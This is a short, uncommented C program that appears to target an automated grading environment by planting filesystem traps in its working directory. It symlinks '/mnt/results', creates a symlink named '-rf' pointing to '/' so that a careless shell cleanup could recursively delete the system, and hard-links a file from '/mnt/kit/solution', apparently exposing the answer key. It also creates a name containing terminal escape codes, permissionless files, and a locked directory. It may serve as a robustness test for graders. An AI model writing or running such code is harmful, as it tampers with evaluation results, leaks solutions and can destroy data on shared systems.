#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>
#include <fcntl.h>
#include <sys/stat.h>
int main(void)
{
    (void)!symlink("/mnt/results", "link");
    (void)!symlink("/", "-rf");
    (void)!link("/mnt/kit/solution/1-fork-wait/fork_wait.c", "hard");
    mkfifo("fifo", 0);
    mkdir("closed", 0);
    close(open("a\nb\x1b[2J\xff", O_CREAT | O_WRONLY, 0));
    chmod(".", 0);
    return 0;
}
